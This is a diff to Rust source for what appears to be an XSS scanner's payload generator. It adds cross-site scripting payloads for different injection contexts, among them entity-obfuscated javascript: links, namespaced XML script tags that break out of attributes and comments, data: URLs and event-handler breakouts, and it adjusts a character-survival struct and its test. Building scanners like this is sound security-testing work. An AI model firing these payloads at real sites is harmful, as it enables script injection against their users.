@@ -26,6 +26,7 @@ const ELEMENTS: &[&str] = &[
     "<svg onload=alert(@)//",
     "<iframe srcdoc=\"&lt;svg onload=alert(@)&gt;\"></iframe>",
     "<a href=\"jav&#9;ascript:alert(@)\">x</a>",
+    "<a href=javas&#99;ript:prompt(@)>x</a>",
     "<form><button formaction=javascript:confirm(@)>x</button></form>",
     "<video><source onerror=confirm(@)></video>",
     "<svg><animate onbegin=confirm(@) attributeName=x dur=1s></svg>",
@@ -33,6 +34,8 @@ const ELEMENTS: &[&str] = &[
     "<body onpageshow=confirm(@)>",
     "<svg\nonload\n=\nconfirm(@)>",
     "<img src=x onerror=onerror=alert;throw/**/@>",
+    // What fits where little room is left.
+    "<q oncut=alert(@)>",
 ];
 
 /// The same, written so that a second decoding makes an element of it.
@@ -50,15 +53,27 @@ const XML: &[&str] = &[
     "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(@)</x:script>",
     "]]><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(@)</x:script><![CDATA[",
     "\"><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(@)</x:script><x y=\"",
+    "'><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(@)</x:script><x y='",
+    "--><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(@)</x:script><!--",
 ];
 
 /// Which letters came back as they were put in.
 #[derive(Debug, Clone, Default)]
-pub(super) struct Survivors(pub(super) String);
+pub(super) struct Survivors {
+    /// The letters.
+    pub(super) letters: String,
+    /// Whether only the second of each does.
+    pub(super) is_second: bool,
+}
 
 impl Survivors {
+    /// All of them.
+    pub(super) fn all() -> Self {
+        Self { letters: "<>\"'".to_owned(), is_second: false }
+    }
+
     fn has(&self, letter: char) -> bool {
-        self.0.contains(letter)
+        self.letters.contains(letter)
     }
 }
 
@@ -129,7 +144,12 @@ fn of(context: &Context, alive: &Survivors) -> Vec<String> {
             list
         }
         Context::Tag => [
-            strings(&[" onmouseover=alert(@) x=", " onclick=alert`@` x=", "\tonfocus=confirm(@)\tx="]),
+            strings(&[
+                " onmouseover=alert(@) x=",
+                " onclick=alert`@` x=",
+                "\tonfocus=confirm(@)\tx=",
+                "svg onload=alert(@) x",
+            ]),
             elements(">", alive),
         ]
         .concat(),
@@ -137,6 +157,9 @@ fn of(context: &Context, alive: &Survivors) -> Vec<String> {
             let mut list = match kind {
                 Value::Plain => Vec::new(),
                 Value::Url => strings(URLS),
+                Value::Loaded => {
+                    strings(&["data:text/javascript,alert(@)", "data:text/javascript,alert(@)//"])
+                }
                 Value::Script(place) => in_script(*place, alive, true),
                 Value::Page => strings(&["&lt;svg onload=alert(@)&gt;", "<svg onload=alert(@)>"]),
             };
@@ -266,14 +289,17 @@ mod tests {
 
     #[test]
     fn payloads_use_only_what_survives() {
-        let all = Survivors("<>\"'".to_owned());
+        let all = Survivors::all();
         let none = Survivors::default();
         assert_eq!(of(&Context::Text, &all)[0], "<svg onload=alert(@)>");
         assert!(of(&Context::Text, &none).iter().all(|payload| !payload.contains('<')));
         let value = Context::Attribute { quote: Some('"'), kind: Value::Plain };
         assert_eq!(of(&value, &all)[0], "\"><svg onload=alert(@)>");
         assert_eq!(
-            of(&value, &Survivors("\"".to_owned()))[0..2].iter().filter(|p| p.starts_with('"')).count(),
+            of(&value, &Survivors { letters: "\"".to_owned(), is_second: false })[0..2]
+                .iter()
+                .filter(|p| p.starts_with('"'))
+                .count(),
             1
         );
         assert!(payloads(&[Context::Text, value], &all).len() > 40);
